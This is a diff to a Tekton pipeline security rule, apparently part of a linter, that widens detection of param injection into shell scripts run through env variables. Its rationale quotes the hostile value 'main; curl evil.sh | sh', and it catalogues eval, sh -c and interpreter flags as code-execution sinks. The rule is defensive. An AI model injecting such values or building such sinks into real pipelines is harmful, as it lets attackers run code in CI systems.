@@ -27,8 +27,8 @@ const CONTAINERS = containerRule(
     title: 'Params and results reach scripts and interpreters only through env',
     rationale:
       'Tekton pastes a substitution into the script or argument text before the program parses it, so a param value such as '
-      + '"main; curl evil.sh | sh" runs as code. Through env it stays data.',
-    fix: 'Pass the value through env and quote the variable in the script.',
+      + '"main; curl evil.sh | sh" runs as code. Through env it stays data, as long as the script does not run the variable as code.',
+    fix: 'Pass the value through env, quote the variable in the script, and never run it as code (eval, sh -c "$VAR", the program\'s name).',
     decidesFrom:
       'Every step, sidecar and stepTemplate of Tasks, TaskRuns, Pipelines and PipelineRuns (`tekton.dev` v1 or v1beta1, or '
       + 'no apiVersion; embedded `taskSpec`s and `pipelineSpec`s followed to any depth), and of every StepAction: the '
@@ -87,13 +87,35 @@ const CONTAINERS = containerRule(
       + 'results into the CEL text before it evaluates it (with `enable-cel-in-whenexpression`); a step\'s with the params the '
       + 'run fixes for the step, a pipeline task\'s with those the run of a PipelineRun\'s own `pipelineSpec` (or of a pipeline '
       + 'task\'s `pipelineSpec`) fixes at the pipeline level, its value else the pipeline\'s default (a pipeline task\'s own '
-      + 'params do not reach its `when`).',
+      + 'params do not reach its `when`). A shell script (its `#!` line names a POSIX shell, or there is none: Tekton runs `sh`) '
+      + 'is also read for what it does with the env vars whose `value` holds such a substitution (read as above, the '
+      + 'stepTemplate\'s env merged as Tekton merges it, a later entry of a name replacing an earlier one): a command that runs '
+      + 'one as code is a finding, once per variable, at the first such command. It runs as code a word `eval` joins, the code of '
+      + '`sh -c` (any POSIX shell, its option group holding `c`; the outer shell expands `"echo $X"` into the code), the code of '
+      + 'another interpreter\'s code option (`python -c`, `node -e`/`--eval`/`-p`, `perl -e` and `-E` in a group, `ruby -e`, '
+      + '`php -r`, `lua -e`, `Rscript -e`, `zsh`/`fish`/`csh -c`, `pwsh -Command`), a command word that expands it (the value '
+      + 'chooses the program and its words), a word `source` or `.` reads (`source <(echo "$X")`, a file it names), and a '
+      + 'shell\'s input (or `source /dev/stdin`\'s): a here-string, a heredoc whose delimiter is not quoted, or what `echo` or '
+      + '`printf` pipes to it; each found through wrappers and runners as in `command` and `args` (`timeout 5m sudo -u b bash '
+      + '-c "$X"`, `find . -exec sh -c "$X" \\;`), in code the script runs in a shell in turn (`sh -c \'eval "$X"\'`: the child '
+      + 'shell has the env) and in command substitutions. A variable the script assigns from one (`Y="$X"`, `Y=$(cmd "$X")`, '
+      + '`export`, `local`, `declare`, `readonly`, the assignments before a command), wherever it assigns it, counts as it does. '
+      + 'Data are any other word: a quoted argument (`echo "$X"`, `printf \'%s\' "$X"`), the arguments after `sh -c CODE` '
+      + '(`sh -c \'echo "$1"\' _ "$X"`, `$0` and the positional parameters), single-quoted code (`eval \'echo "$X"\'`), the '
+      + 'arguments of a script file (`python3 build.py "$X"`), a quoted heredoc, and `${#X}`.',
     limits:
       'Only listed program names count as interpreters: a renamed binary, a tool that runs one of its option values as a '
       + "command (`git --upload-pack=...`), or an interpreter that the image's entrypoint starts (no `command`) is not "
       + 'recognised; ARGUMENT_INJECTION covers the last case. A substitution is refused wherever it sits in a script, a '
-      + 'comment or quoted heredoc included, while env values are not inspected: what the script then does with the variable '
-      + '(`eval "$VAR"`) is not seen. Each substitution of a place is a finding of its own, reported once with how often the '
+      + 'comment or quoted heredoc included. What a script does with an env var is read only in a shell script, and only for the '
+      + 'commands above: a script in another language (`#!/usr/bin/env python3` with `exec(os.environ["X"])`, node\'s '
+      + '`eval(process.env.X)`) is not read; nor are `valueFrom` and `envFrom`, whose values are not written in the object; '
+      + 'nor the program text of awk, sed, jq or yq (`sed "s/a/$X/"`), the remote command of ssh, an array\'s elements '
+      + '(`CMD=(tool "$X")`), indirection (`${!NAME}`), a function\'s arguments (`f "$X"` with `f() { eval "$1"; }`), `read`, '
+      + 'or a file written and then sourced or run (`echo "$X" > f.sh; sh f.sh`). Assignments are followed wherever they are '
+      + '(one that gives the variable a constant later does not clear it), and in a word that mixes single quotes with an '
+      + 'expansion (`\'$X\'"$Y"`) every variable written counts, as does one read inside a command substitution '
+      + '(`eval "$(printf %q "$X")"` is a finding). The admission policies do not read it: CEL cannot read shell. Each substitution of a place is a finding of its own, reported once with how often the '
       + 'place holds it. Pods, Deployments and other '
       + 'workloads are not read, nor the init containers Tekton adds to the pod itself; a Task named by a resolver, bundle or '
       + 'hub reference is judged only when it is given as an object. The string of `env -S STRING` is read as env\'s '
@@ -108,7 +130,8 @@ const CONTAINERS = containerRule(
       + 'constant of it.',
     howToRelax:
       'Cannot be relaxed: no prop, `Relaxations.of(...)` or annotation waives it. Pass the value through env (`env: [{ '
-      + 'name: \'URL\', value: \'$(params.url)\' }]`) and use `"$URL"`, quoted, in the script.',
+      + 'name: \'URL\', value: \'$(params.url)\' }]`) and use `"$URL"`, quoted, in the script, as an argument of a fixed '
+      + 'command (`git clone "$URL"`), or as a positional parameter of the code of a shell (`sh -c \'git clone "$1"\' _ "$URL"`).',
     relaxable: false,
   },
   (view) => {
